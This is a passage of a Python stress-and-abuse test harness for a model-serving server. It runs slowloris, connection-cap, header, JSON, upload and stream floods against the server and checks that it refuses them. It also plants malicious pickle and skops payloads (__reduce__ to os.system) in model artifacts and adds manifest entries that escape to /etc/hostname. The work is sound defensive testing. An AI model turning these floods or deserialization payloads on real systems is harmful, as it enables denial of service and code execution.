class Ctx:
    opts: Options
    work: Path
    payloads: Path
    settings: dict[str, str] = field(default_factory=dict)
    key: str | None = None
    server: Server | None = None
    examples: dict[str, dict] = field(default_factory=dict)
    outcome: dict[str, Any] = field(default_factory=dict)
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def port(self) -> int:
        assert self.server is not None
        return self.server.port

    def key_header(self) -> bytes:
        return f"X-API-Key: {self.key}\r\n".encode() if self.key else b""

    def key_metadata(self) -> list[tuple[str, str]]:
        return [("x-api-key", self.key)] if self.key else []


def multipart(filename: str, data: bytes, content_type: str) -> tuple[bytes, str]:
    boundary = "abuse" + os.urandom(8).hex()
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n"
            f"Content-Type: {content_type}\r\n\r\n").encode()
    return head + data + f"\r\n--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def post_head(path: str, content_type: str, length: int, extra: bytes = b"") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {length}\r\nConnection: close\r\n").encode() + extra + b"\r\n"


async def upload_loop(ctx: Ctx, name: str, data: bytes, content_type: str, deadline: float,
                      results: list[dict], at_least_once: bool = True) -> None:
    body, form_type = multipart(name, data, content_type)
    first = True
    while (first and at_least_once) or time.monotonic() < deadline:
        first = False
        result = await exchange(ctx.port, post_head("/fashion/image", form_type, len(body), ctx.key_header()), body,
                                timeout=ctx.opts.client_timeout_s)
        result["payload"] = name
        results.append(result)
        if result["status"] is None:
            await asyncio.sleep(0.2)  # a refused connection: do not spin


def uploads_by_payload(results: list[dict]) -> dict[str, Any]:
    return {name: summarize_exchanges([r for r in results if r["payload"] == name])
            for name in sorted({r["payload"] for r in results})}


async def attack_big_uploads(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    png, jpeg = ctx.extra["png"], ctx.extra["jpeg"]
    out.update(png_bytes=len(png), jpeg_bytes=len(jpeg))
    deadline = time.monotonic() + opts.seconds
    results: list[dict] = []
    out["uploads"] = results  # filled as they finish: a cut-off run still reports what it got
    tasks = [upload_loop(ctx, "big_rgba.png", png, "image/png", deadline, results) for _ in range(opts.uploads)]
    tasks.append(upload_loop(ctx, "photo.jpg", jpeg, "image/jpeg", deadline, results))
    await asyncio.gather(*tasks)


async def attack_icc_bomb(ctx: Ctx) -> None:
    out = ctx.outcome
    deadline = time.monotonic() + ctx.opts.seconds
    results: list[dict] = []
    out["uploads"] = results
    payloads = ctx.extra["icc"]
    out["payload_bytes"] = {name: len(data) for name, data in payloads.items()}
    await asyncio.gather(*(upload_loop(ctx, name, data, "image/png", deadline, results)
                           for name, data in payloads.items()))


async def attack_json_key_flood(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    body = ctx.extra["json"]
    out["body_bytes"] = len(body)
    out["keys"] = opts.json_keys
    valid = f"X-API-Key: {ctx.key}\r\n".encode()
    # The cheap refusals, each on one request that pauses after 64 KB of its body: an answer during the pause
    # came before the server read the body.
    for label, extra in (("no_key", b""), ("with_key", valid)):
        out[f"{label}_held"] = await exchange(ctx.port, post_head("/house-price", "application/json", len(body), extra),
                                              body, hold_at=64 * 1024, hold_s=1.5, timeout=opts.client_timeout_s)
        out[f"{label}_held"]["answered_before_body"] = (out[f"{label}_held"]["status"] is not None and
                                                        out[f"{label}_held"].get("body_sent_at_answer", 0) <= 64 * 1024)
    # Then the flood: json_concurrency bodies in flight at once, sent at full speed, half the time without a key.
    async def worker(extra: bytes, deadline: float, results: list[dict]) -> None:
        first = True
        while first or time.monotonic() < deadline:
            first = False
            result = await exchange(ctx.port, post_head("/house-price", "application/json", len(body), extra), body,
                                    timeout=opts.client_timeout_s)
            results.append(result)
            if result["status"] is None:
                await asyncio.sleep(0.2)

    for label, extra in (("no_key", b""), ("with_key", valid)):
        deadline = time.monotonic() + opts.seconds / 2
        results: list[dict] = []
        out[f"{label}_flood_raw"] = results
        await asyncio.gather(*(worker(extra, deadline, results) for _ in range(opts.json_concurrency)))


async def slow_connection(port: int, mode: str, deadline: float, semaphore: asyncio.Semaphore,
                          key_header: bytes, t_attack: float) -> dict[str, Any]:
    """One slow client: "idle" sends nothing, "headers" a header line every 3 s, "body" announces 8 MB to the
    upload route and sends 1 KB every 3 s. Returns how long the server kept it and what it said."""
    record: dict[str, Any] = {"mode": mode, "lifetime_s": None, "status": None, "ended": "still open"}
    writer = None
    try:
        async with semaphore:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 10)
    except Exception as exc:
        record["ended"] = f"connect error: {type(exc).__name__}"
        return record
    opened = time.monotonic()
    record["opened_at_s"] = round(opened - t_attack, 3)
    first = bytearray()

    async def read_all() -> str:
        try:
            while data := await reader.read(4096):
                if len(first) < 1000:
                    first.extend(data[:1000 - len(first)])
            return "closed by server"
        except (ConnectionError, OSError) as exc:
            return f"reset: {type(exc).__name__}"

    reading = asyncio.create_task(read_all())
    try:
        if mode == "headers":
            writer.write(f"POST /fashion/image HTTP/1.1\r\nHost: {HOST}\r\n".encode())
        elif mode == "body":
            writer.write(post_head("/fashion/image", "multipart/form-data; boundary=slow", 8_000_000, key_header)
                         + b"--slow\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n")
        line = 0
        while not reading.done():
            left = deadline - time.monotonic()
            if left <= 0:
                break
            await asyncio.wait({reading}, timeout=min(3.0, left))
            if reading.done() or time.monotonic() >= deadline:
                break
            try:
                if mode == "headers":
                    line += 1
                    writer.write(f"X-Trickle-{line}: {'a' * 20}\r\n".encode())
                elif mode == "body":
                    writer.write(b"\x89" * 1024)
                if mode != "idle":
                    await asyncio.wait_for(writer.drain(), 3)
            except (ConnectionError, OSError, TimeoutError) as exc:
                await asyncio.wait({reading}, timeout=0.5)
                if not reading.done():
                    record["ended"] = f"write error: {type(exc).__name__}"
                    record["lifetime_s"] = round(time.monotonic() - opened, 3)
                break
        if reading.done():
            record["ended"] = reading.result()
            record["lifetime_s"] = round(time.monotonic() - opened, 3)
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)
        close_writer(writer)
    status, _ = parse_head(bytes(first)) if first.startswith(b"HTTP/") else (None, {})
    record["status"] = status
    if status is not None and b"\r\n\r\n" in first:
        record["detail"] = detail_of(bytes(first).split(b"\r\n\r\n", 1)[1])
    if first and status is None:
        record["first_bytes"] = bytes(first[:80]).decode("latin-1")
    return record


def summarize_slow(records: list[dict], limit_s: float | None) -> dict[str, Any]:
    modes: dict[str, Any] = {}
    for mode in sorted({r["mode"] for r in records}):
        rows = [r for r in records if r["mode"] == mode]
        lifetimes = [r["lifetime_s"] for r in rows if r["lifetime_s"] is not None]
        modes[mode] = {"connections": len(rows),
                       "ended": dict(Counter(r["ended"] for r in rows)),
                       "statuses": dict(Counter(str(r["status"]) for r in rows)),
                       "details": {str(status): next(r["detail"] for r in rows if r["status"] == status)
                                   for status in {r["status"] for r in rows if r.get("detail")}},
                       "lifetime_s": {"min": min(lifetimes, default=None), "p50": percentile(lifetimes, 50),
                                      "max": max(lifetimes, default=None)},
                       "still_open_at_end": sum(r["ended"] == "still open" for r in rows)}
        if limit_s is not None:
            modes[mode]["over_limit"] = sum(r["lifetime_s"] is None or r["lifetime_s"] > limit_s for r in rows
                                            if not r["ended"].startswith("connect error"))
    return modes


async def attack_slowloris(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    n = ctx.extra["connections"]
    hold = max(opts.seconds, opts.read_timeout_s + 6)
    out.update(connections=n, read_timeout_s=opts.read_timeout_s, held_up_to_s=hold)
    t0 = time.monotonic()
    semaphore = asyncio.Semaphore(100)
    modes = ("idle", "headers", "body")
    tasks = [asyncio.create_task(slow_connection(ctx.port, modes[i % 3], t0 + hold, semaphore, ctx.key_header(), t0))
             for i in range(n)]
    records = await collect(tasks, out)
    out["modes"] = summarize_slow(records, opts.read_timeout_s + 3)
    out["all_closed_after_s"] = round(time.monotonic() - t0, 2)


async def collect(tasks: list[asyncio.Task], out: dict) -> list[dict]:
    """Each connection's record as it ends (kept in ``out["records"]`` as they come, for a cut-short run)."""
    records: list[dict] = []
    out["records"] = records
    try:
        for task in asyncio.as_completed(tasks):
            records.append(await task)
    finally:
        for task in tasks:
            task.cancel()
    return records


async def attack_conn_cap(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    n = ctx.extra["connections"]
    out.update(cap=opts.connection_cap, connections=n)
    t0 = time.monotonic()
    semaphore = asyncio.Semaphore(100)
    tasks = [asyncio.create_task(slow_connection(ctx.port, "idle", t0 + opts.seconds, semaphore, b"", t0))
             for _ in range(n)]
    records = await collect(tasks, out)
    refused = [r for r in records if r["lifetime_s"] is not None and r["lifetime_s"] < 1.0]
    out["held_to_end"] = sum(r["ended"] == "still open" for r in records)
    out["refused_within_1s"] = len(refused)
    out["refused_statuses"] = dict(Counter(str(r["status"]) for r in refused))
    out["closed_later"] = sum(r["lifetime_s"] is not None and r["lifetime_s"] >= 1.0 for r in records)
    out["connect_errors"] = sum(r["ended"].startswith("connect error") for r in records)
    # once the idle connections are gone, a new one must get through again
    await asyncio.sleep(0.3)
    recovery = await exchange(ctx.port, f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode(),
                              timeout=5)
    out["healthz_after_release"] = {k: recovery.get(k) for k in ("status", "seconds", "error")}


async def attack_stream_flood(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    body = json.dumps(ctx.examples.get("poem") or {"line_num": 2}).encode()
    head = post_head("/poem/stream", "application/json", len(body), ctx.key_header())
    deadline = time.monotonic() + opts.seconds
    attempts: list[dict] = []
    out.update(streams=opts.streams, body=json.loads(body))
    out["attempts_raw"] = attempts
    semaphore = asyncio.Semaphore(100)

    async def one() -> None:
        record: dict[str, Any] = {"status": None, "events": 0}
        t0 = time.monotonic()
        record["start"] = t0
        writer = None
        try:
            async with semaphore:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, ctx.port), 10)
            writer.write(head + body)
            await writer.drain()
            status, headers = await asyncio.wait_for(read_head(reader), max(0.1, deadline - time.monotonic() + 5))
            record["status"], record["retry_after"] = status, headers.get("retry-after")
            record["first_byte_s"] = round(time.monotonic() - t0, 4)
            tail = bytearray()

            def count(data: bytes) -> None:
                text = bytes(tail) + data
                record["events"] += text.count(b"event:") - bytes(tail).count(b"event:")
                tail[:] = text[-8:]
                if b"event: error" in text:
                    record["error_event"] = True

            left = deadline - time.monotonic()
            if left > 0:
                kept, _ = await asyncio.wait_for(read_body(reader, headers, keep=300, on_data=count), left)
                if status != 200:
                    record["detail"] = detail_of(kept)
                record["ended"] = "complete"
            else:
                record["ended"] = "cut by the attacker's deadline"
        except TimeoutError:
            record["ended"] = "cut by the attacker's deadline"
        except (ConnectionError, OSError, asyncio.IncompleteReadError, ValueError) as exc:
            record["ended"] = f"error: {type(exc).__name__}"
        finally:
            close_writer(writer)
            record["end"] = time.monotonic()
            record["seconds"] = round(record["end"] - t0, 4)
            attempts.append(record)

    async def worker() -> None:
        while time.monotonic() < deadline:
            await one()
            last = attempts[-1] if attempts else {}
            if last.get("status") == 503:
                try:
                    wait = max(1.0, float(last.get("retry_after") or 1))
                except ValueError:
                    wait = 1.0
                await asyncio.sleep(min(wait, max(0.0, deadline - time.monotonic())))
            elif last.get("status") != 200:
                await asyncio.sleep(0.5)

    await asyncio.gather(*(worker() for _ in range(opts.streams)))


def max_overlap(intervals: list[tuple[float, float]]) -> int:
    events = sorted([(start, 1) for start, _ in intervals] + [(end, -1) for _, end in intervals])
    most = current = 0
    for _, step in events:
        current += step
        most = max(most, current)
    return most


def summarize_streams(attempts: list[dict]) -> dict[str, Any]:
    ok = [a for a in attempts if a["status"] == 200]
    refused = [a for a in attempts if a["status"] == 503]
    return {"attempts": len(attempts), "statuses": dict(Counter(str(a["status"]) for a in attempts)),
            "ended": dict(Counter(a.get("ended", "?") for a in attempts)),
            "refused_503": len(refused), "refused_with_retry_after": sum(bool(a.get("retry_after")) for a in refused),
            "retry_after_values": dict(Counter(str(a.get("retry_after")) for a in refused)),
            "refusal_detail": next((a.get("detail") for a in refused if a.get("detail")), None),
            # measured on this side, from each stream's first byte to its end as read here: a new stream can
            # start on the server just before this side has read the end of the one whose place it took
            "streams_served": len(ok), "most_streams_at_once": max_overlap([(a["start"] + a["first_byte_s"], a["end"]) for a in ok]),
            "stream_seconds": {"p50": percentile([a["seconds"] for a in ok], 50),
                               "max": max((a["seconds"] for a in ok), default=None)},
            "events_per_stream_p50": percentile([a["events"] for a in ok], 50),
            "error_events": sum(bool(a.get("error_event")) for a in ok)}


def tamper_artifacts(ctx: Ctx) -> dict[str, Any]:
    """Copy the artifacts and plant the payloads; return what was planted where (and the control's verdict)."""
    source = Path(os.environ.get("SERVE_ARTIFACTS_DIR") or ROOT / "artifacts")
    target = ctx.work / "artifacts"
    shutil.copytree(source, target)
    markers = ctx.work / "markers"
    markers.mkdir()
    planted: dict[str, Any] = {"artifacts_copy": str(target), "markers": {}, "files": {}}

    def newest(model_dir: Path) -> Path:  # the version that serves
        return list(version_folders(model_dir).values())[-1] if version_folders(model_dir) else model_dir

    def rehash(folder: Path, changes: dict[str, str]) -> None:
        manifest = json.loads((folder / "manifest.json").read_text())
        manifest["files"].update(changes)
        (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))

    def plant(folder_name: str, pattern: str, label: str) -> None:
        folder = newest(target / folder_name)
        try:
            manifest = json.loads((folder / "manifest.json").read_text())
        except (OSError, ValueError) as exc:
            planted["files"][label] = f"no manifest: {exc}"
            return
        marker = markers / f"{label}.marker"
        planted["markers"][label] = str(marker)
        changes = {}
        for name in manifest.get("files", {}):
            if not re.fullmatch(pattern, name):
                continue
            original = (folder / name).read_bytes() if (folder / name).is_file() else None
            suffix = Path(name).suffix
            if suffix in (".joblib", ".pkl", ".pickle", ".pt", ".pth", ".bin"):
                data, kind = pickle_payload(marker), "pickle (__reduce__ -> os.system)"
            elif suffix == ".skops":
                data, kind = skops_payload(marker, original), "skops (ConstructorFromReduceNode -> posix.system)"
            else:
                planted["files"][f"{label}:{name}"] = f"left alone: a {suffix} file cannot carry code"
                continue
            (folder / name).write_bytes(data)
            changes[name] = hashlib.sha256(data).hexdigest()
            planted["files"][f"{label}:{name}"] = kind
        if changes:
            rehash(folder, changes)
        else:
            planted["files"].setdefault(label, f"nothing matching {pattern} in the manifest")
        if (folder / "manifest.sig").exists():
            planted["files"][f"{label}:manifest.sig"] = "present (left as it was: it no longer matches)"

    plant("house_price", r"preprocessor\..*", "house-price preprocessor")
    plant("fashion", r"[^/]*\.(pt|pth|bin)", "fashion weights")
    # poem: the manifest names files outside its folder (each with its true hash)
    poem = newest(target / "poem")
    escapes = {}
    for name in ("/etc/hostname", f"../../phone_price/{newest(target / 'phone_price').name}/manifest.json"):
        path = Path(name) if name.startswith("/") else poem / name
        if path.is_file():
            escapes[name] = hashlib.sha256(path.read_bytes()).hexdigest()
    if (poem / "manifest.json").is_file() and escapes:
        rehash(poem, escapes)
        planted["files"]["poem:manifest.json"] = f"lists {', '.join(escapes)}"
    if ctx.opts.control:
        planted["control"] = control_payloads(ctx.work)
    return planted


def control_payloads(work: Path) -> dict[str, str]:
    """Load each kind of payload the unsafe way in a throwaway process: the marker appears if the payload is
    live (so an absent marker under the server means the server refused it, not that the payload was dud)."""
    control = work / "control"
    control.mkdir(exist_ok=True)
    cases = {
        "pickle via joblib.load": ("import joblib, sys; joblib.load(sys.argv[1])", "preprocessor.joblib",
                                   pickle_payload),
        "skops.io.load trusting posix.system": (
            "import skops.io, sys; skops.io.load(sys.argv[1], trusted=['posix.system'])", "preprocessor.skops",
            skops_payload),
        "torch.load(weights_only=False)": ("import torch, sys; torch.load(sys.argv[1], weights_only=False)", "model.pt",
                                           pickle_payload),
    }
    verdicts = {}
    for label, (code, name, make) in cases.items():
        marker = control / f"{name}.marker"
        path = control / name
        path.write_bytes(make(marker))
        try:
            run = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=120,
                                 cwd=control, check=False)
            error = run.stderr.strip().splitlines()[-1] if run.returncode and run.stderr.strip() else ""
        except (subprocess.TimeoutExpired, OSError) as exc:
            error = type(exc).__name__
        verdicts[label] = "live (marker created)" if marker.exists() else f"not shown live: {error or 'no marker'}"
    return verdicts


async def attack_tampered_artifact(ctx: Ctx) -> None:
    out = ctx.outcome
    headers = {"X-API-Key": ctx.key} if ctx.key else {}
    copy = ctx.extra["planted"]["artifacts_copy"]
    async with httpx.AsyncClient(base_url=ctx.server.url, timeout=10, headers=headers) as client:
        texts = []
        try:
            readyz = await client.get("/readyz")
            texts.append(readyz.text)
            out["readyz"] = {"status": readyz.status_code, "body": readyz.json()}
        except (httpx.HTTPError, ValueError) as exc:
            out["readyz"] = {"error": type(exc).__name__}
        try:
            models = await client.get("/models")
            texts.append(models.text)
        except httpx.HTTPError:
            pass
        calls = {}
        for name in ("phone-price", "house-price", "fashion", "poem"):
            example = ctx.examples.get(name)
            if example is None:
                calls[name] = {"error": "no example on /models"}
                continue
            try:
                response = await client.post(f"/{name}", json=example)
                texts.append(response.text)
                calls[name] = {"status": response.status_code,
                               "detail": detail_of(response.content) if response.status_code >= 400 else None}
            except httpx.HTTPError as exc:
                calls[name] = {"error": type(exc).__name__}
        out["calls"] = calls
        out["absolute_paths_in_responses"] = sorted({p for p in (copy, str(ctx.work))
                                                     if any(p in t for t in texts)})
    await asyncio.sleep(min(ctx.opts.seconds, 3.0))  # the good client keeps calling phone-price meanwhile
    markers = ctx.extra["planted"]["markers"]
    out["markers_present"] = {label: Path(path).exists() for label, path in markers.items()}


@dataclass
class Attack:
    name: str
    run: Callable[[Ctx], Awaitable[None]]
    good_model: str = "phone-price"
    settings: Callable[[Options], dict[str, str]] = lambda opts: {}
    prepare: Callable[[Ctx], None] = lambda ctx: None
    finish: Callable[[Ctx], None] = lambda ctx: None
    bound: Callable[[Options], float] = lambda opts: opts.seconds + 40
    checks: Callable[[dict, Options], dict[str, bool]] = lambda result, opts: {}
    seconds: float = 10.0  # the default length (Options.seconds None)


def _prepare_big_uploads(ctx: Ctx) -> None:
    ctx.extra["png"] = big_png(ctx.payloads).read_bytes()
    ctx.extra["jpeg"] = big_jpeg(ctx.payloads).read_bytes()


def _finish_uploads(ctx: Ctx) -> None:
    results = ctx.outcome.pop("uploads", [])
    ctx.outcome["by_payload"] = uploads_by_payload(results)
    ctx.outcome["latency_s"] = {name: {"p50": percentile([r["seconds"] for r in results
                                                           if r["payload"] == name and r.get("status")], 50),
                                       "max": max((r["seconds"] for r in results
                                                   if r["payload"] == name and r.get("status")), default=None)}
                                for name in {r["payload"] for r in results}}


def _checks_big_uploads(result: dict, opts: Options) -> dict[str, bool]:
    peak = (result.get("rss_mb") or {}).get("peak")
    png = result["outcome"].get("by_payload", {}).get("big_rgba.png", {})
    return {"peak_rss_under_1200mb": peak is not None and peak < 1200,
            "every_upload_answered": bool(png) and all(k.isdigit() for k in png.get("statuses", {"x": 1}))}


def _prepare_icc(ctx: Ctx) -> None:
    ctx.extra["icc"] = {"icc_random.png": icc_png(ctx.payloads, "random").read_bytes(),
                        "icc_zeros.png": icc_png(ctx.payloads, "zeros").read_bytes()}


def icc_verdicts(outcome: dict) -> dict[str, Any]:
    verdicts = {}
    for name, summary in outcome.get("by_payload", {}).items():
        statuses = [int(s) for s in summary["statuses"] if s.isdigit()]
        details = " ".join(summary["details"].values()).lower()
        verdicts[name] = {"statuses": summary["statuses"], "details": summary["details"],
                          "413_or_422": bool(statuses) and all(s in (413, 422) for s in statuses)
                          and len(statuses) == len(summary["statuses"]),
                          "misleading": 415 in statuses or "not a png" in details}
    return verdicts


def _checks_icc(result: dict, opts: Options) -> dict[str, bool]:
    verdicts = result["outcome"].get("verdicts", {})
    return {"icc_413_or_422": bool(verdicts) and all(v["413_or_422"] for v in verdicts.values()),
            "icc_not_not_a_png": bool(verdicts) and not any(v["misleading"] for v in verdicts.values())}


def _finish_icc(ctx: Ctx) -> None:
    _finish_uploads(ctx)
    ctx.outcome["verdicts"] = icc_verdicts(ctx.outcome)


def _prepare_json(ctx: Ctx) -> None:
    ctx.extra["json"] = key_flood_body(ctx.opts.json_keys)


def _finish_json(ctx: Ctx) -> None:
    for label in ("no_key", "with_key"):
        raw = ctx.outcome.pop(f"{label}_flood_raw", [])
        ctx.outcome[f"{label}_flood"] = summarize_exchanges(raw)


def _checks_json(result: dict, opts: Options) -> dict[str, bool]:
    out = result["outcome"]

    def only(label: str, status: int) -> bool:
        """The held request got ``status``; every flood request too, or a reset while its body was still being
        sent (the server stopped reading: its answer was lost to the reset, see ``exchange``)."""
        flood = out.get(f"{label}_flood", {}).get("statuses", {})
        return out.get(f"{label}_held", {}).get("status") == status and bool(flood) and \
            all(k == str(status) or k.startswith("reset mid-body") for k in flood)

    def fast(label: str) -> bool:
        worst = out.get(f"{label}_flood", {}).get("seconds_to_answer_or_reset", {}).get("max")
        return worst is not None and worst < 1.0

    return {"no_key_401": only("no_key", 401),
            "no_key_answered_before_body": bool(out.get("no_key_held", {}).get("answered_before_body")),
            "no_key_within_1s": fast("no_key"),
            "with_key_413": only("with_key", 413),
            "with_key_within_1s": fast("with_key")}


def _connections_for(ctx: Ctx, wanted: int) -> int:
    soft = raise_nofile()
    margin = 200
    n = max(1, min(wanted, soft - margin))
    ctx.outcome["fd_limit_attacker"] = soft
    if n < wanted:
        ctx.outcome["capped_by_fd_limit"] = f"{wanted} asked, {n} possible with ulimit -n {soft}"
    return n


def _prepare_slowloris(ctx: Ctx) -> None:
    ctx.extra["connections"] = _connections_for(ctx, ctx.opts.slow_connections)


def _finish_slow(ctx: Ctx) -> None:
    records = ctx.outcome.pop("records", [])
    if "modes" not in ctx.outcome:  # cut off: summarize what finished
        ctx.outcome["modes"] = summarize_slow(records, ctx.opts.read_timeout_s + 3)


def _checks_slowloris(result: dict, opts: Options) -> dict[str, bool]:
    modes = result["outcome"].get("modes", {})
    return {"slow_closed_within_timeout_plus_3s": bool(modes) and all(m.get("over_limit", 1) == 0
                                                                     for m in modes.values()),
            "no_connect_errors": bool(modes) and not any(k.startswith("connect error")
                                                         for m in modes.values() for k in m["ended"])}


def _prepare_conn_cap(ctx: Ctx) -> None:
    ctx.extra["connections"] = _connections_for(ctx, ctx.opts.connection_cap + ctx.opts.cap_extra)


def _finish_conn_cap(ctx: Ctx) -> None:
    ctx.outcome.pop("records", None)


def _checks_conn_cap(result: dict, opts: Options) -> dict[str, bool]:
    out = result["outcome"]
    # Over the cap, the connection that waited longest is closed to make room (so a probe gets in): the
    # check is that no more than the cap stay open, not that the newest are refused.
    return {"cap_enforced": out.get("held_to_end", 10 ** 9) <= opts.connection_cap,
            "healthz_after_release_ok": out.get("healthz_after_release", {}).get("status") == 200}


def _finish_streams(ctx: Ctx) -> None:
    attempts = ctx.outcome.pop("attempts_raw", [])
    ctx.outcome.update(summarize_streams(attempts))


def _checks_streams(result: dict, opts: Options) -> dict[str, bool]:
    out = result["outcome"]
    return {"streams_capped": out.get("refused_503", 0) > 0,
            "refusals_carry_retry_after": out.get("refused_503", 0) == out.get("refused_with_retry_after", -1),
            "good_poem_p99_under_1s": (result.get("good_client") or {}).get("p99_ms") is not None
            and result["good_client"]["p99_ms"] < 1000}


def _prepare_tampered(ctx: Ctx) -> None:
    ctx.extra["planted"] = tamper_artifacts(ctx)
    ctx.settings["SERVE_ARTIFACTS_DIR"] = ctx.extra["planted"]["artifacts_copy"]


def _finish_tampered(ctx: Ctx) -> None:
    planted = ctx.extra.get("planted", {})
    ctx.outcome["planted"] = planted.get("files")
    ctx.outcome["control"] = planted.get("control")
    ctx.outcome["markers_present"] = {label: Path(path).exists() for label, path in planted.get("markers", {}).items()}


def _checks_tampered(result: dict, opts: Options) -> dict[str, bool]:
    out = result["outcome"]
    models = (out.get("readyz") or {}).get("body", {}).get("models", {})
    calls = out.get("calls", {})
    control = out.get("control") or {}
    return {"no_marker": bool(out.get("markers_present")) and not any(out["markers_present"].values()),
            "house_price_failed": str(models.get("house-price", "")).startswith("failed"),
            "house_price_503": calls.get("house-price", {}).get("status") == 503,
            "fashion_weights_refused": str(models.get("fashion", "")).startswith("failed"),
            "poem_path_escape_refused": str(models.get("poem", "")).startswith("failed"),
            "phone_price_serves": models.get("phone-price") == "ready" and calls.get("phone-price", {}).get("status") == 200,
            "payloads_live_in_control": bool(control) and all(v.startswith("live") for v in control.values()),
            "no_absolute_paths": not out.get("absolute_paths_in_responses")}


# ---------------------------------------------------------------------------------------------------------------
# Round two: two workers, client keys and gRPC on


def round_two_settings(opts: Options) -> dict[str, str]:
    """The round-two server: two workers, client keys, and the v2 protocol over gRPC on a free port."""
    return {"SERVE_WORKERS": "2", "SERVE_API_KEYS": json.dumps([API_KEY]), "SERVE_GRPC_PORT": str(free_port())}


async def flood_connection(port: int, first: bytes, piece: bytes, total: int, tail: bytes,
                           timeout: float = 5.0) -> dict[str, Any]:
    """Send ``first``, then ``piece`` repeated to ``total`` bytes, then ``tail``, reading all the while: the
    first answer's status, the bytes sent before it came (or the server closed), and how the connection ended
    (closed by the server, reset, or still open ``timeout`` s after the last write)."""
    record: dict[str, Any] = {"status": None, "sent_at_answer": None, "sent": 0}
    t0 = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 10)
    except (OSError, TimeoutError) as exc:
        record["ended"] = f"connect error: {type(exc).__name__}"
        return record
    got = bytearray()

    async def read_all() -> str:
        try:
            while data := await reader.read(1 << 16):
                if record["sent_at_answer"] is None:
                    record["sent_at_answer"] = record["sent"]
                    record["answer_s"] = round(time.monotonic() - t0, 4)
                got.extend(data[:2000 - len(got)])
            return "closed by server"
        except (ConnectionError, OSError) as exc:
            return f"reset: {type(exc).__name__}"

    reading = asyncio.create_task(read_all())
    chunk = piece * max(1, (1 << 16) // len(piece))
    try:
        writer.write(first)
        while record["sent"] < total and record["sent_at_answer"] is None and not reading.done():
            data = chunk[:total - record["sent"]]
            writer.write(data)
            await asyncio.wait_for(writer.drain(), timeout)
            record["sent"] += len(data)
        if record["sent"] >= total and record["sent_at_answer"] is None and not reading.done():
            writer.write(tail)
            await asyncio.wait_for(writer.drain(), timeout)
            record["sent_all"] = True
        await asyncio.wait({reading}, timeout=timeout)  # the answer, then the close
    except TimeoutError:
        record["write_stalled"] = True
    except (ConnectionError, OSError) as exc:
        record["write_error"] = type(exc).__name__
        await asyncio.wait({reading}, timeout=1.0)
    finally:
        record["ended"] = reading.result() if reading.done() else "still open"
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)
        close_writer(writer)
    record["seconds"] = round(time.monotonic() - t0, 4)
    if got.startswith(b"HTTP/"):
        record["status"] = parse_head(bytes(got))[0]
        if b"\r\n\r\n" in got:
            record["detail"] = detail_of(bytes(got).split(b"\r\n\r\n", 1)[1])
    return record


async def attack_header_flood(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    head = (f"POST /phone-price HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
            f"Content-Length: 2\r\n").encode()  # no key
    modes = {"many-lines": (head, b"X-Flood: " + b"a" * 16 + b"\r\n", b"\r\n{}"),
             "huge-value": (head + b"X-Big: ", b"a" * 1024, b"\r\n\r\n{}")}
    out.update(connections=opts.header_connections, header_bytes=opts.header_bytes)
    records: list[dict] = []
    out["records"] = records
    deadline = time.monotonic() + opts.seconds

    async def worker(mode: str) -> None:
        first = True
        while first or time.monotonic() < deadline:
            first = False
            record = await flood_connection(ctx.port, *modes[mode][:2], opts.header_bytes, modes[mode][2])
            record["mode"] = mode
            records.append(record)
            if record["ended"].startswith("connect error"):
                await asyncio.sleep(0.2)

    await asyncio.gather(*(worker(list(modes)[i % 2]) for i in range(opts.header_connections)))


def summarize_floods(records: list[dict]) -> dict[str, Any]:
    sent = [r["sent_at_answer"] if r["sent_at_answer"] is not None else r["sent"] for r in records]
    details = {}
    for r in records:
        if r.get("detail") and str(r["status"]) not in details:
            details[str(r["status"])] = r["detail"]
    return {"connections": len(records),
            "statuses": dict(Counter(str(r["status"]) for r in records)),
            "ended": dict(Counter(r["ended"] for r in records)),
            "sent_all": sum(bool(r.get("sent_all")) for r in records),
            "write_stalled": sum(bool(r.get("write_stalled")) for r in records),
            "kb_sent_before_answer_or_close": {"p50": round(percentile(sent, 50) / 1024, 1) if sent else None,
                                               "max": round(max(sent) / 1024, 1) if sent else None},
            "seconds": {"p50": percentile([r.get("seconds", 0) for r in records], 50),
                        "max": max((r.get("seconds", 0) for r in records), default=None)},
            "details": details}


def _finish_header_flood(ctx: Ctx) -> None:
    records = ctx.outcome.pop("records", [])
    ctx.outcome["by_mode"] = {mode: summarize_floods([r for r in records if r["mode"] == mode])
                              for mode in sorted({r["mode"] for r in records})}


def _checks_header_flood(result: dict, opts: Options) -> dict[str, bool]:
    modes = result["outcome"].get("by_mode", {})

    def answered_431(summary: dict) -> bool:
        """Every connection got 431, or was reset (the server closed with headers unread: the 431 can be lost
        to the reset), and at least one 431 came."""
        statuses, ended = summary["statuses"], summary["ended"]
        unanswered = statuses.get("None", 0)
        return statuses.get("431", 0) > 0 and set(statuses) <= {"431", "None"} and \
            unanswered <= sum(v for k, v in ended.items() if k.startswith("reset"))

    return {"header_431": len(modes) == 2 and all(answered_431(s) for s in modes.values()),
            "header_431_closes": len(modes) == 2 and all(s["ended"].get("still open", 0) == 0 for s in modes.values())}


async def pipeline_connection(port: int, share: int, deadline: float, stall_s: float = 1.0) -> dict[str, Any]:
